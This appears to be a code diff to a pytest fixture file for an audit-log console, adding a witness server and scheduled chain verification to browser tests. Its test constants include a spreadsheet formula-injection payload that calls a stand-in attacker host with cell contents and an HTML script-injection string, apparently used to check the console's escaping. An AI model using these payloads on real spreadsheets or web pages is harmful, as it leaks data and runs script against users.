@@ -4,6 +4,9 @@ The ``console`` fixture runs ``otel-audit serve`` (receiver, sealer and query AP
 the console) on free ports against the session's Elasticsearch, sends
 checkouts from the demo services through the real OTel SDK exporters, and waits until
 every event is stored and sealed (``test_tamper.py`` runs last and edits some of them).
+The server runs a scheduled verify every few seconds and sends each chain's newest
+checkpoint to a real witness (``otel-audit witness serve``), so the chain page has a last
+run and stored cosignatures to show.
 Both it and the browser are package-scoped (``__init__.py`` makes this directory a
 package), so Playwright's event loop and the server end with this directory's tests.
 ``page`` is a fresh browser context in Debian's Chromium (``/usr/bin/chromium``, or
@@ -14,6 +17,7 @@ With ``OTEL_AUDIT_SCREENSHOTS=DIR`` the tests save a screenshot of each page the
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
@@ -50,6 +54,7 @@ TOKEN = "oat_console-browser-test-token-0123456789"
 SUBJECT = "auditor-anna"
 STATS_TOKEN = "oat_console-stats-only-token-0123456789"
 FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
+CHAIN = "console-test"
 MARKUP = '<img src=x onerror="window.pwned=1"><b id=injected>bold</b>'
 
 
@@ -64,14 +69,47 @@ class Console:
     formula_event_id: str
     public_key: Path
     state: Path
+    witness_vkey: str
     views: list[str] = field(default_factory=list)
 
     def url(self, path: str) -> str:
         return self.base + path
 
 
-def _config(tmp: Path, es_url: str, ports: dict[str, int]) -> Path:
-    keys = write_key_pair(generate_private_key(), tmp / "keys", force=True)
+WITNESS_NAME = "witness.example/console"
+
+
+@dataclass
+class _Witness:
+    proc: subprocess.Popen[bytes]
+    url: str
+    vkey: str
+
+
+def _start_witness(tmp: Path, chain: str, log_public_key: Path) -> _Witness:
+    """``otel-audit witness serve`` for ``chain``; it prints its URL and vkey first."""
+    keys = write_key_pair(generate_private_key(), tmp / "witness-keys", force=True)
+    log = (tmp / "witness.log").open("ab")
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "otel_audit.cli", "witness", "serve",
+         "--key", str(keys.private_key_path), "--name", WITNESS_NAME,
+         "--log", f"{chain}={log_public_key}", "--state", str(tmp / "witness-state.json"),
+         "--listen", f"127.0.0.1:{free_port()}"],
+        stdout=subprocess.PIPE,
+        stderr=log,
+    )  # fmt: skip
+    log.close()
+    assert proc.stdout is not None
+    line = proc.stdout.readline()
+    if not line:
+        stop_child(proc, 10)
+        raise AssertionError("witness did not start: " + log_tail(tmp / "witness.log", 20))
+    first = json.loads(line)
+    return _Witness(proc, first["listening"], first["vkey"])
+
+
+def _config(tmp: Path, es_url: str, ports: dict[str, int], witness: _Witness) -> Path:
+    keys = tmp / "keys"  # written once by the fixture: the witness knows its public key
     text = f"""
 grpc_endpoint: 127.0.0.1:{ports["grpc"]}
 http_endpoint: 127.0.0.1:{ports["http"]}
@@ -79,10 +117,10 @@ query_api_endpoint: 127.0.0.1:{ports["query"]}
 es_url: {es_url}
 spool_dir: {tmp / "spool"}
 integrity:
-  key_file: {keys.private_key_path}
+  key_file: {keys / "signing-key.pem"}
   generate_dev_key: false
   state_dir: {tmp / "integrity"}
-  chain_id: console-test
+  chain_id: {CHAIN}
   block_max_interval_ms: 200
   block_max_events: 8
 query:
@@ -90,7 +128,13 @@ query:
     - {{subject: {SUBJECT}, sha256: {hash_token(TOKEN)}, roles: [reader]}}
     - {{subject: dashboards, sha256: {hash_token(STATS_TOKEN)}, roles: [stats]}}
 console:
-  public_keys: [{keys.public_key_path}]
+  public_keys: [{keys / "signing-key.pub.pem"}]
+watch:
+  enabled: true
+  first_delay_s: 1
+  interval_s: 4
+  witness_urls: [{witness.url}]
+  witness_keys: ["{witness.vkey}"]
 """
     path = tmp / "serve.yaml"
     path.write_text(text, encoding="utf-8")
@@ -143,14 +187,16 @@ def _wait_sealed(es: Elasticsearch, ids: list[str], timeout_s: float = 60.0) -> 
     assert not missing, f"{len(missing)} events never sealed"
 
 
-def _start_serve(tmp: Path, es_url: str) -> tuple[subprocess.Popen[bytes], dict[str, int]]:
+def _start_serve(
+    tmp: Path, es_url: str, witness: _Witness
+) -> tuple[subprocess.Popen[bytes], dict[str, int]]:
     """``otel-audit serve`` on free ports; picked ports can be taken by another process
     before the server binds them, so a start that fails on a port in use is retried."""
     log = tmp / "serve.log"
     env = {**os.environ, "OTEL_AUDIT_ES_URL": es_url}
     for _attempt in range(3):
         ports = {name: free_port() for name in ("grpc", "http", "query")}
-        config = _config(tmp, es_url, ports)
+        config = _config(tmp, es_url, ports, witness)
         proc = subprocess.Popen(
             [sys.executable, "-m", "otel_audit.cli", "serve", "--config", str(config)],
             env=env,
@@ -176,7 +222,13 @@ def console(es_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[C
     es = Elasticsearch(es_url, request_timeout=30)
     wipe_project_state(es)
     install_templates(es)
-    proc, ports = _start_serve(tmp, es_url)
+    keys = write_key_pair(generate_private_key(), tmp / "keys", force=True)
+    witness = _start_witness(tmp, CHAIN, keys.public_key_path)
+    try:
+        proc, ports = _start_serve(tmp, es_url, witness)
+    except BaseException:
+        stop_child(witness.proc, 10)
+        raise
     try:
         grpc = f"127.0.0.1:{ports['grpc']}"
         report = send_traffic(grpc, checkouts=12, with_violations=False)
@@ -190,9 +242,11 @@ def console(es_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[C
             formula_event_id=formula_id,
             public_key=tmp / "keys" / "signing-key.pub.pem",
             state=tmp,
+            witness_vkey=witness.vkey,
         )
     finally:
         stop_child(proc, 30)
+        stop_child(witness.proc, 10)
         es.close()
 
 
